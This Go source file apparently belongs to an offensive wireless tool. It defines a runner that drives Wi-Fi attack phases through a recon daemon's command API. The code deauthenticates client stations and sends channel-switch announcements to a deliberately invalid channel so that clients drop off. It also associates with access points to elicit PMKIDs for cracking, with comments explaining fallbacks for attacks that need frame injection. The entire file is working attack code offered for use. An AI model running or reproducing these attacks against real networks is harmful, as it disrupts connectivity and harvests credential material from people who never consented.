package env

import (
	"context"
	"fmt"

	"airbrain/internal/logger"
	"airbrain/pkg/models"
)

const (
	maxDeauthsPerDispatch = 5

	// csaChannel is always invalid on purpose; clients that honor the
	// switch announcement fall off the network and reauthenticate.
	csaChannel = 14
)

// Runner dispatches attack phases through the recon daemon's command
// API. Phases that would need raw frame injection degrade to the
// nearest command the daemon offers, mirroring how the battery behaves
// without an injection-capable interface.
type Runner struct {
	client *Client
}

// NewRunner wraps a REST client as an attack runner.
func NewRunner(client *Client) *Runner {
	return &Runner{client: client}
}

// Perform executes one phase against a target and reports what was
// actually sent.
func (r *Runner) Perform(ctx context.Context, phase models.AttackPhase, ap models.AccessPoint, stations []models.Station) (AttackReport, error) {
	var rep AttackReport

	switch phase {
	case models.PhasePMKID:
		if err := r.associate(ctx, ap, &rep); err != nil {
			return rep, err
		}

	case models.PhaseCSA:
		if len(stations) == 0 {
			// Nobody listening for the announcement.
			if err := r.associate(ctx, ap, &rep); err != nil {
				return rep, err
			}
			break
		}
		cmd := fmt.Sprintf("wifi.channel_switch_announce %s %d", ap.MAC, csaChannel)
		if err := r.client.Command(ctx, cmd); err != nil {
			return rep, err
		}

	case models.PhaseDeauth, models.PhaseDisassoc:
		// The daemon exposes deauthentication only; disassociation
		// degrades to it.
		for _, sta := range stations {
			if rep.Deauths >= maxDeauthsPerDispatch {
				break
			}
			if err := r.client.Command(ctx, "wifi.deauth "+sta.MAC); err != nil {
				return rep, err
			}
			rep.Deauths++
		}
		if rep.Deauths == 0 {
			if err := r.associate(ctx, ap, &rep); err != nil {
				return rep, err
			}
		} else {
			logger.Debugf("deauth %s: %d clients", ap.SSID, rep.Deauths)
		}

	case models.PhasePMFBypass, models.PhaseRogueM2:
		// The EAPOL-level tricks need injection; elicit a PMKID
		// instead so the dispatch still produces material.
		if err := r.associate(ctx, ap, &rep); err != nil {
			return rep, err
		}

	case models.PhaseProbe:
		if ap.SSID != "" {
			if err := r.client.Command(ctx, fmt.Sprintf("wifi.probe %s %s", ap.MAC, ap.SSID)); err != nil {
				return rep, err
			}
			rep.Probes++
		}

	case models.PhasePassive:
		// Let any in-flight handshakes complete undisturbed.
	}

	return rep, nil
}

func (r *Runner) associate(ctx context.Context, ap models.AccessPoint, rep *AttackReport) error {
	if err := r.client.Command(ctx, "wifi.assoc "+ap.MAC); err != nil {
		return err
	}
	rep.Associations++
	return nil
}
